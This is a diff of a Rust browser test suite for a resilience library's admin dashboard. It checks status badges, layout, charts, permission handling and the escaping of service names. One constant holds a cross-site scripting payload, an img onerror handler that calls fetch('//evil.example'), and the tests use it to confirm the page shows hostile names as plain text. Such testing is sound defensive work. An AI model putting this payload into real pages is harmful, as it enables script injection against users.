@@ -5,75 +5,103 @@
 
 mod driver;
 
-use std::{env, fs, net::SocketAddr, path::Path, time::Duration};
+use std::{
+    env, fs,
+    net::SocketAddr,
+    path::Path,
+    sync::{
+        Arc,
+        atomic::{AtomicBool, Ordering},
+    },
+    thread,
+    time::Duration,
+};
 
 use axum::Router;
 use buttress::{
-    BoxError, Stack, bulkhead::BulkheadLayer, retry::ReplayClones, telemetry::Registry,
+    BoxError, Stack,
+    bulkhead::BulkheadLayer,
+    telemetry::{Control, Registry},
 };
-use buttress_admin::Admin;
+use buttress_admin::{Actor, Admin};
 use driver::Browser;
+use http::{Request, Response};
 use serde_json::Value;
 use tokio::{
     net::TcpListener,
     runtime::Runtime,
     time::{interval, sleep},
 };
-use tower::{ServiceExt, util::BoxCloneSyncService};
+use tower::{Service, ServiceExt, util::BoxCloneSyncService};
 
-type Client = BoxCloneSyncService<u64, u64, BoxError>;
+type Client = BoxCloneSyncService<Request<String>, Response<String>, BoxError>;
 
 /// A name that would run a script if it became a part of the page.
 const HOSTILE: &str = "<img src=x onerror=\"document.title='taken'; fetch('//evil.example')\">";
 
 /// Sends `rate` calls in a second, and waits for none.
-fn load(client: Client, rate: u64) {
+fn load<S>(client: S, rate: u64)
+where
+    S: Service<Request<String>, Future: Send, Response: Send, Error: Send> + Clone + Send + 'static,
+{
     tokio::spawn(async move {
         let mut ticks = interval(Duration::from_millis(1_000 / rate));
-        for number in 0.. {
+        loop {
             ticks.tick().await;
             let client = client.clone();
-            tokio::spawn(async move { client.oneshot(number).await });
+            tokio::spawn(async move { client.oneshot(Request::new(String::new())).await });
         }
     });
 }
 
-/// A client whose service takes this long.
-fn takes(millis: u64) -> Client {
-    BoxCloneSyncService::new(tower::service_fn(move |number: u64| async move {
-        sleep(Duration::from_millis(millis)).await;
-        Ok::<_, BoxError>(number)
+/// A client whose service takes this long, and which responds with 503 while it is down.
+fn takes(millis: u64, is_down: &Arc<AtomicBool>) -> Client {
+    let is_down = Arc::clone(is_down);
+    BoxCloneSyncService::new(tower::service_fn(move |_: Request<String>| {
+        let status = if is_down.load(Ordering::Relaxed) { 503 } else { 200 };
+        async move {
+            sleep(Duration::from_millis(millis)).await;
+            Ok::<_, BoxError>(Response::builder().status(status).body(String::new())?)
+        }
     }))
 }
 
-/// A process with four dependencies, one of which is overloaded.
+/// A process that calls four dependencies, and one with another name.
+///
+/// `payments` is overloaded, `ledger` was opened by hand, and `orders` can go down.
 struct Shop {
     runtime: Runtime,
     address: SocketAddr,
+    orders_are_down: Arc<AtomicBool>,
 }
 
 impl Shop {
-    fn open(admin: impl FnOnce(Admin) -> Admin) -> Self {
+    fn open(more: Option<&str>, admin: impl FnOnce(Admin) -> Admin) -> Self {
         let runtime = Runtime::new().unwrap();
+        let orders_are_down = Arc::new(AtomicBool::new(false));
         let address = runtime.block_on(async {
             let registry = Registry::new();
-            let standard = |name: &str| {
-                Stack::standard(ReplayClones).name(name.to_owned()).register(&registry)
-            };
-            load(BoxCloneSyncService::new(standard("inventory").boxed(takes(4))), 40);
-            load(BoxCloneSyncService::new(standard(HOSTILE).boxed(takes(2))), 5);
-            let few = BulkheadLayer::builder().max_concurrent(4).build().unwrap();
-            let payments = standard("payments").bulkhead(few);
-            load(BoxCloneSyncService::new(payments.boxed(takes(200))), 50);
-
             let admin = admin(Admin::new(&registry));
+            let well = Arc::default();
+            let standard =
+                |name: &str| Stack::standard_http().name(name.to_owned()).register(&registry);
+            load(standard("inventory").boxed(takes(4, &well)), 40);
+            load(standard("ledger").boxed(takes(9, &well)), 10);
+            load(standard("orders").boxed(takes(20, &orders_are_down)), 50);
+            if let Some(more) = more {
+                load(standard(more).boxed(takes(2, &well)), 5);
+            }
+            let few = BulkheadLayer::builder().max_concurrent(4).build().unwrap();
+            load(standard("payments").bulkhead(few).boxed(takes(200, &well)), 50);
+            let force = Control::ForceOpen(Some(Duration::from_secs(3_600)));
+            assert_eq!(registry.control(Some("ledger"), "ledger", force, "ada"), 1);
             let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
             let address = listener.local_addr().unwrap();
             let router = Router::new().nest_service("/buttress", admin);
             tokio::spawn(async { axum::serve(listener, router).await });
             address
         });
-        Self { runtime, address }
+        Self { runtime, address, orders_are_down }
     }
 
     fn url(&self) -> String {
@@ -121,28 +149,112 @@ fn await_sentence(browser: &Browser, name: &str, begin: &str) {
 
 #[test]
 fn the_page_says_whose_fault_an_outage_is_at_each_width() {
-    let shop = Shop::open(|admin| admin);
     let browser = Browser::start();
+    let is_blessed = env::var_os("BLESS").is_some();
     for width in [1_280, 400] {
+        let shop = Shop::open(None, |admin| admin);
         browser.resize(width, 900);
         browser.open(&shop.url());
+        await_sentence(&browser, "inventory", "Healthy: ");
         await_sentence(&browser, "payments", "Our bulkhead is full");
-        assert_eq!(text(&browser, "payments", ".badge"), "◆ Our side");
-        // The first card is the one to look at.
-        assert_eq!(browser.run("return document.querySelector('h2').textContent"), "payments");
-        let wide = browser.run("return document.documentElement.scrollWidth");
-        assert_eq!(wide, width, "the page must not be wider than the screen");
+        await_sentence(&browser, "ledger", "Forced open by ada ");
+        if is_blessed && width > 1_000 {
+            // The picture shows the time before, and the open circuit.
+            thread::sleep(Duration::from_secs(30));
+        }
+        shop.orders_are_down.store(true, Ordering::Relaxed);
+        await_sentence(&browser, "orders", "503 from the dependency: ");
+        for (name, badge) in [
+            ("inventory", "✓ Healthy"),
+            ("payments", "◆ Our side"),
+            ("ledger", "■ By hand"),
+            ("orders", "▲ Their side"),
+        ] {
+            assert_eq!(text(&browser, name, ".badge"), badge);
+        }
+        let title = browser.run("return document.getElementById('title').textContent");
+        assert_eq!(title, "3 of 4 dependencies need attention");
+        // The ill ones come first.
+        let first = "return document.querySelector('section:nth-child(4) .badge').textContent";
+        assert_eq!(browser.run(first), "✓ Healthy");
+        let [wide, fits] = ["scrollWidth", "clientWidth"]
+            .map(|it| browser.run(&format!("return document.documentElement.{it}")));
+        assert_eq!(wide, fits, "the page must not be wider than the screen");
+        // The chart says the numbers under the pointer.
+        let script = format!(
+            "const canvas = {}.querySelector('canvas'), box = canvas.getBoundingClientRect();
+            const clientX = box.right - 9, clientY = box.top + 9;
+            canvas.dispatchEvent(new PointerEvent('pointermove', {{ clientX, clientY }}));
+            return canvas.closest('section').querySelector('.axis').textContent;",
+            card("orders")
+        );
+        let under = browser.run(&script);
+        assert!(under.as_str().unwrap().contains("/s "), "{under}");
+        browser.run(
+            "document.querySelectorAll('canvas')
+                .forEach(it => it.dispatchEvent(new PointerEvent('pointerleave')))",
+        );
         // Nobody may change anything.
         assert_eq!(browser.run("return document.querySelectorAll('button').length"), 0);
-        keep(&browser, width, "outage");
+        if is_blessed && width > 1_000 {
+            thread::sleep(Duration::from_secs(15));
+        }
+        let picture = keep(&browser, width, "outage");
+        if is_blessed && width > 1_000 {
+            assert!(picture.len() < 300_000);
+            let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/admin.png");
+            fs::write(docs, picture).unwrap();
+        }
+        check(&browser, &shop);
+        // A script of the page may not either.
+        let change = r#"{"stack":"orders","layer":"orders","do":"force_open","seconds":9}"#;
+        let headers = "{ 'content-type': 'application/json' }";
+        let send = format!("{{ method: 'POST', headers: {headers}, body: '{change}' }}");
+        let status = format!("return fetch('buttress/control', {send}).then(it => it.status)");
+        assert_eq!(browser.run(&status), 403);
+        // It is a message on the console.
+        browser.console();
+        drop(shop.runtime);
     }
+}
+
+/// Clicks a button of a card, and confirms what it asks.
+fn turn(browser: &Browser, name: &str, button: &str) {
+    for text in [button, "Do it"] {
+        let buttons = format!("[...{}.querySelectorAll('button')]", card(name));
+        let found = format!("{buttons}.find(it => it.textContent === {})", Value::from(text));
+        browser.wait(text, &format!("return !!{found}"));
+        browser.click(&format!("return {found}"));
+    }
+}
+
+#[test]
+fn a_person_who_may_turn_switches_can_do_so_on_the_page() {
+    let shop = Shop::open(None, |admin| admin.allow_changes(|_| Some(Actor::new("grace"))));
+    let browser = Browser::start();
+    browser.resize(400, 900);
+    browser.open(&shop.url());
+    await_sentence(&browser, "inventory", "Healthy: ");
+    turn(&browser, "inventory", "Force open …");
+    await_sentence(&browser, "inventory", "Forced open by grace ");
+    assert_eq!(text(&browser, "inventory", ".badge"), "■ By hand");
+    let ends = text(&browser, "inventory", ".sentence");
+    assert!(ends.contains("It ends by itself in 5 min."), "{ends}");
+    keep(&browser, 400, "switch");
+    turn(&browser, "inventory", "Close …");
+    await_sentence(&browser, "inventory", "Recovered ");
+    turn(&browser, "ledger", "Reset …");
+    await_sentence(&browser, "ledger", "Recovered ");
+    turn(&browser, "payments", "Limit …");
+    let answer = format!("return /Changed/.test({}.textContent)", card("payments"));
+    browser.wait("the change", &answer);
     check(&browser, &shop);
     drop(shop.runtime);
 }
 
 #[test]
 fn a_hostile_name_is_text() {
-    let shop = Shop::open(|admin| admin);
+    let shop = Shop::open(Some(HOSTILE), |admin| admin);
     let browser = Browser::start();
     browser.open(&shop.url());
     browser.wait("the card", &format!("return !!{}", card(HOSTILE)));
@@ -154,7 +266,7 @@ fn a_hostile_name_is_text() {
 
 #[test]
 fn a_server_that_ends_makes_the_numbers_old() {
-    let shop = Shop::open(|admin| admin);
+    let shop = Shop::open(None, |admin| admin);
     let browser = Browser::start();
     browser.open(&shop.url());
     browser.wait("the card", &format!("return !!{}", card("payments")));
